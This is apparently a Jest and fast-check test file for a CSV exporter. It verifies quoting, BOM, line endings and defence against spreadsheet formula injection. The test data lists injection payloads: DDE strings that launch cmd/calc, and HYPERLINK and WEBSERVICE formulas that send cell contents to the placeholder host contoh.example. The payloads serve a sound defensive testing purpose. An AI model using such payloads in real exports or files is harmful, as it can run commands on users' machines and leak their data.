import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { csvOf } from '../../src/platform/exports/csv.ts'

const fileOf = async (rows: AsyncIterable<unknown[]> | Iterable<unknown[]>): Promise<string> => {
  let file = ''
  for await (const part of csvOf(rows)) file += part
  return file
}

/** What a spreadsheet reads: cells between separators, those in quotes as they are; what follows a closed quote still belongs to the cell. */
function read(file: string, separator: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  const text = file.replace(/^\uFEFF/, '')
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at]!
    if (quoted && sign === '"' && text[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (quoted) {
      if (sign === '"') quoted = false
      else cell += sign
    } else if (sign === '"' && cell === '') quoted = true
    else if (sign === separator || sign === '\n' || sign === '\r') {
      rows.at(-1)!.push(cell)
      cell = ''
      if (sign !== separator) rows.push([])
    } else cell += sign
  }
  rows.at(-1)!.push(cell)
  return rows
}

/** A dash begins no formula where only words follow it, or a number. */
const isListed = (cell: string) =>
  /^[\s\p{C}"]*[-－](?:[-－\s]*$|[-－\s]*\d+(?:[.,]\d+)*\s*%?$)/u.test(cell) ||
  (/^[\s\p{C}"]*[-－]/u.test(cell) &&
    !/[=+*^@|{}[\]$<>＝＋＠]|!\S|[\p{L}\p{N}_.]\(/u.test(cell) &&
    /\p{L}{2}/u.test(cell))
const isFormula = (cell: string) => /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell) && !isListed(cell)

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\t=',
  '\r\n=',
  '\0=',
  '\uFEFF=',
  '\u200B-',
]
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://contoh.example?x="&A1,"klik")',
  'WEBSERVICE("http://contoh.example")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A1:A9)*cmd|x!A1',
]
const formulas = starts.flatMap((start) => bodies.map((body) => start + body))

describe('a file for a spreadsheet', () => {
  it('says that it is UTF-8, quotes every cell, and ends lines as spreadsheets do', async () => {
    expect(
      await fileOf([
        ['Nama', 'Jumlah'],
        ['Neng "Ayu", Kesambi', 3],
        ['', null],
      ]),
    ).toBe('\uFEFF"Nama","Jumlah"\r\n"Neng ""Ayu"", Kesambi","3"\r\n"",""\r\n')
  })

  it.each([
    '-5 orang',
    '- beras',
    '- beras\n- gula\n- minyak goreng',
    '-beras dan gula',
    '- RT 3: 5 kk; RW 07: 12 kk',
    '- Ibu Siti (50 tahun), ketua PKK',
    '- 50% warga hadir!',
    '-5',
    '-6.732100',
    '--- selesai ---',
    '-',
    '– beras',
    '• beras',
  ])('keeps %j as it was written', async (text) => {
    expect(read(await fileOf([['a', text, 'b']]), ',')[0]).toEqual(['a', text, 'b'])
  })

  it.each([
    ['-1+2', "'-1+2"],
    ["-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"],
    ['-A1', "'-A1"],
    ['-RW7', "'-RW7"],
    ['-2*3', "'-2*3"],
    ['- SUM(A1:A2)', "'- SUM(A1:A2)"],
    ['- HYPERLINK ("http://contoh.example")', `'- HYPERLINK ("http://contoh.example")`],
    ['- beras\n=1+1', "'- beras\n'=1+1"],
    ['-Lembar!A1 orang', "'-Lembar!A1 orang"],
    ['－1+1', "'－1+1"],
    [' -1-1', "' -1-1"],
  ])('marks %j, which a spreadsheet would work out', async (text, marked) => {
    expect(read(await fileOf([[text]]), ',')[0]).toEqual([marked])
  })

  it('keeps numbers numbers, also those below zero', async () => {
    expect(await fileOf([[-5, 0, 1284, 12n, -3n]])).toBe('\uFEFF"-5","0","1284","12","-3"\r\n')
  })

  it.each(formulas)('does not let %j run', async (text) => {
    const [[cell]] = read(await fileOf([[text, 'x']]), ',') as [[string]]

    expect(isFormula(cell)).toBe(false)
    expect(cell.startsWith("'")).toBe(true)
    expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''))
  })

  it.each(formulas)('does not let %j run behind a separator of ours', async (text) => {
    const cells = read(await fileOf([['Budi', `Rapat RW;${text};selesai`, 'x']]), ';').flat()

    expect(cells.filter(isFormula)).toEqual([])
  })

  it.each(['\n"=1+1', 'x;"=1+1', 'x;""=1+1', 'x;" "=1+1'])('does not let %j run behind quotes', async (text) => {
    const cells = read(await fileOf([['', text]]), ';').flat()

    expect(cells.filter(isFormula)).toEqual([])
  })

  it('leaves sums of money and ordinary sentences as they were written', async () => {
    const text = 'Bantuan Rp50.000,- untuk 2 keluarga; RT 003/RW 07 (08.00-10.00)'

    expect(read(await fileOf([[text]]), ',')[0]).toEqual([text])
  })

  it('gives back any text that is no formula', async () => {
    const text = fc.string({ unit: 'grapheme' }).filter((one) => !/[=+\-@＝＋－＠\r\n\t]/u.test(one))
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 2, maxLength: 5 }), async (cells) => {
        expect(read(await fileOf([cells]), ',')[0]).toEqual(cells)
      }),
    )
  })

  it.each([',', ';'])('has no formula in any cell, whatever it is given, read with %j', async (separator) => {
    const part = fc.oneof(fc.constantFrom(...starts, ...formulas, ';', '"', ',', '\r\n'), fc.string())
    const cell = fc.array(part, { maxLength: 6 }).map((parts) => parts.join(''))
    await fc.assert(
      fc.asyncProperty(fc.array(cell, { minLength: 1, maxLength: 4 }), async (cells) => {
        const found = read(await fileOf([cells]), separator).flat()
        // Read with the other separator, cells run together; behind the first of these joints every formula is an error of
        // syntax, and a sign with nothing but a quote is one too.
        const beginnings = found
          .map((one) => one.split(/"*,"/, 1)[0]!)
          .filter((one) => !/^[\s\p{C}－-]*[\d.,%]*"*$/u.test(one))
        expect((separator === ',' ? found : beginnings).filter(isFormula)).toEqual([])
      }),
    )
  })

  it('is still a file when there is nothing to tell', async () => {
    expect(await fileOf([])).toBe('\uFEFF')
  })

  it('marks its beginning once and sends long tables in parts', async () => {
    async function* many() {
      for (let row = 0; row < 1201; row += 1) yield [row]
    }
    const parts: string[] = []
    for await (const part of csvOf(many())) parts.push(part)

    expect(parts).toHaveLength(3)
    expect(parts.join('').split('\r\n')).toHaveLength(1202)
    expect(parts.join('').match(/\uFEFF/g)).toHaveLength(1)
  })
})
